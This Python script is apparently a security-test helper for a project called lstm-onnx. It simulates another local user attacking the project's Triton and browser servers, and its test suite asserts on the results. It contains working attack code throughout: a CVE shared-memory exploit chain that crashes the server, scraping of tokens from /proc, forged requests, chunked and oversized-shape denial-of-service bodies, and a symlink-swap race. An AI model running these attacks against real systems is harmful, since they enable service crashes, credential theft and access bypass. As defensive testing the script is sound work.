"""Another local user's attack on lstm-onnx's servers: standard library only, run by the system `python3`
as `nobody` (tests/test_serve_security.py, tests/test_runtimes.py). Prints one JSON object of what each
step got; the tests assert on it.

    serve HTTP_PORT MODEL MARKER_HEX   the CVE-2025-23319/23320/23334 chain and a read of /dev/shm
    browser PORT                        forge a Chromium runner result, download its model, flood a POST
    kill PORT MODEL STEPS               issue 25's two requests that killed Triton 2.51: a body in 1,000,455
                                        one-byte chunks (a valid request of STEPS steps, padded), a shape
                                        of [1, 2^40, 2] (also hidden behind a repeated key)
    reach SOCKET TRITON_PID             try to reach Triton's port past nginx: the gate's socket, the
                                        server's network namespace
    swap FOLDER NAME TARGET SECONDS     swap FOLDER/NAME between a regular file and a symlink to TARGET
"""

from __future__ import annotations

import http.client
import json
import os
import re
import socket
import sys
from pathlib import Path


def call(port: int, method: str, path: str, body: bytes | None = None, headers: dict | None = None) -> tuple[int, str]:
    """HTTP status and the start of the body; 0 and the reason when the connection fails."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    try:
        connection.request(method, path, body=body, headers=headers or {})
        response = connection.getresponse()
        return response.status, response.read(300).decode("utf-8", "replace")
    except (OSError, http.client.HTTPException) as exc:
        return 0, type(exc).__name__
    finally:
        connection.close()


def shm_regions() -> list[dict]:
    """Every region in /dev/shm lstm-onnx's backend could have made, and whether it can be read."""
    found = []
    for entry in Path("/dev/shm").glob("lstm-onnx-*"):
        try:
            data = entry.read_bytes()
            found.append({"name": entry.name, "size": len(data), "readable": True, "data": data})
        except OSError as exc:
            found.append({"name": entry.name, "size": 0, "readable": False, "error": type(exc).__name__})
    return found


def attack_serve(port: int, model: str, marker: bytes) -> dict:
    regions = shm_regions()
    result = {"regions": [r["name"] for r in regions], "readable": [r["name"] for r in regions if r["readable"]],
              "marker_seen": any(marker in r.get("data", b"") for r in regions)}
    target = regions[0]["name"] if regions else "lstm-onnx-guess"
    register = json.dumps({"key": "/" + target, "offset": 0, "byte_size": 1 << 16}).encode()
    result["register"] = call(port, "POST", "/v2/systemsharedmemory/region/evil/register", register)
    # The write into the backend's own region: what made the server abort (exit -6).
    infer = {"inputs": [{"name": "input", "shape": [1, 3, 1], "datatype": "FP32", "data": [0.1, 0.2, 0.3]}],
             "outputs": [{"name": "lstm_2_last", "parameters": {"shared_memory_region": "evil",
                                                                 "shared_memory_byte_size": 8}}]}
    result["write_into_region"] = call(port, "POST", f"/v2/models/{model}/infer", json.dumps(infer).encode())
    result["logging"] = call(port, "POST", "/v2/logging", json.dumps({"log_file": "/tmp/lstm-onnx-evil.log"}).encode())
    result["repository"] = call(port, "POST", "/v2/repository/index", b"{}")
    result["unload"] = call(port, "POST", f"/v2/repository/models/{model}/unload", b"{}")
    result["config"] = call(port, "GET", f"/v2/models/{model}/config")
    result["statistics"] = call(port, "GET", "/v2/models/stats")
    result["trace"] = call(port, "GET", "/v2/trace/setting")
    result["ready"] = call(port, "GET", f"/v2/models/{model}/ready")
    return result


def secrets_in_proc(pattern: str) -> list[str]:
    """Every token-looking value another user can read on any command line or in any environment."""
    seen = []
    for proc in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                text = (proc / name).read_bytes().decode("utf-8", "replace")
            except OSError:
                continue
            seen += re.findall(pattern, text)
    return seen


def attack_browser(port: int) -> dict:
    tokens = secrets_in_proc(r"token=([A-Za-z0-9_\-]+)")
    forged = json.dumps({"outputs": [{"name": "x", "dtype": "float32", "shape": [1], "data": "AAAAAA=="}]}).encode()
    result = {"tokens_seen": tokens, "model": call(port, "GET", "/model.onnx")[0], "page": call(port, "GET", "/")[0],
              "next": call(port, "GET", "/next")[0], "forge": call(port, "POST", "/result", forged)[0]}
    for token in tokens[:3]:  # what a token read off /proc would buy
        headers = {"X-Lstm-Onnx-Token": token}
        result.setdefault("forge_with_seen_token", []).append(call(port, "POST", "/result", forged, headers)[0])
    result["model_with_query"] = [call(port, "GET", f"/model.onnx?token={t}")[0] for t in tokens[:3]]
    # A body declared as 1.5 GB: refused from its headers, before a byte of it is read.
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    try:
        connection.putrequest("POST", "/result")
        connection.putheader("Content-Length", str(1_500_000_000))
        connection.endheaders()
        connection.send(b"x" * (1 << 20))
        result["flood"] = connection.getresponse().status
    except (OSError, http.client.HTTPException) as exc:
        result["flood"] = type(exc).__name__
    finally:
        connection.close()
    return result


CHUNKS = 1_000_455


def steps_input(steps: int) -> list[float]:
    """The input of the chunked request, [1, steps, 2] row-major (the test recomputes it)."""
    return [((i * 7) % 17) / 17 - 0.5 for i in range(steps * 2)]


def chunked(port: int, path: str, body: bytes) -> tuple[int, str]:
    """POST `body` as Transfer-Encoding: chunked, one byte per chunk, on a raw socket."""
    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n").encode()
    framed = b"".join(b"1\r\n" + body[i:i + 1] + b"\r\n" for i in range(len(body))) + b"0\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
        try:
            sock.sendall(head + framed)
        except OSError as exc:  # refused early (413) and closed: the answer is still there to read
            error = type(exc).__name__
        else:
            error = ""
        response = http.client.HTTPResponse(sock)
        try:
            response.begin()
            return response.status, response.read().decode("utf-8", "replace")
        except (OSError, http.client.HTTPException) as exc:
            return 0, error or type(exc).__name__


def attack_kill(port: int, model: str, steps: int) -> dict:
    path = f"/v2/models/{model}/infer"
    request = {"inputs": [{"name": "input", "shape": [1, steps, 2], "datatype": "FP32", "data": steps_input(steps)}]}
    body = json.dumps(request).encode()
    body += b" " * (CHUNKS - len(body))  # JSON allows the padding: the body of issue 25's request
    result = {"chunks": len(body), "chunked": chunked(port, path, body)}
    huge = {"inputs": [{"name": "input", "shape": [1, 2**40, 2], "datatype": "FP32", "data": [1]}]}
    result["huge_shape"] = call(port, "POST", path, json.dumps(huge).encode())
    # The same shape first and a good one last: Python's parser keeps the last, Triton's the first.
    repeated = ('{"inputs": [{"name": "input", "shape": [1, 1099511627776, 2], "datatype": "FP32", '
                '"data": [0, 0, 0, 0, 0, 0], "shape": [1, 3, 2]}]}')
    result["repeated_key"] = call(port, "POST", path, repeated.encode())
    return result


def attack_reach(socket_path: str, server_pid: int) -> dict:
    """What another user gets trying to reach Triton without nginx."""
    result = {}
    with socket.socket(socket.AF_UNIX) as sock:
        try:
            sock.connect(socket_path)
            result["gate_socket"] = "connected"
        except OSError as exc:
            result["gate_socket"] = type(exc).__name__
    try:
        os.open(f"/proc/{server_pid}/ns/net", os.O_RDONLY)
        result["netns"] = "opened"
    except OSError as exc:
        result["netns"] = type(exc).__name__
    return result


def swap(folder: Path, name: str, target: str, seconds: float) -> dict:
    """Race a checker that `lstat`s FOLDER/NAME and then opens it: as fast as this process can, put a
    regular file there, then a symlink to TARGET, each by an atomic rename."""
    import time

    real, link, path = folder / ".real", folder / ".link", folder / name
    swaps, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        real.write_bytes(b"genuine keras metadata")
        os.replace(real, path)
        link.unlink(missing_ok=True)
        os.symlink(target, link)
        os.replace(link, path)
        swaps += 1
    return {"swaps": swaps}


if __name__ == "__main__":
    kind = sys.argv[1]
    if kind == "serve":
        out = attack_serve(int(sys.argv[2]), sys.argv[3], bytes.fromhex(sys.argv[4]))
    elif kind == "kill":
        out = attack_kill(int(sys.argv[2]), sys.argv[3], int(sys.argv[4]))
    elif kind == "reach":
        out = attack_reach(sys.argv[2], int(sys.argv[3]))
    elif kind == "swap":
        out = swap(Path(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]))
    else:
        out = attack_browser(int(sys.argv[2]))
    out["uid"] = os.getuid()
    print(json.dumps(out))
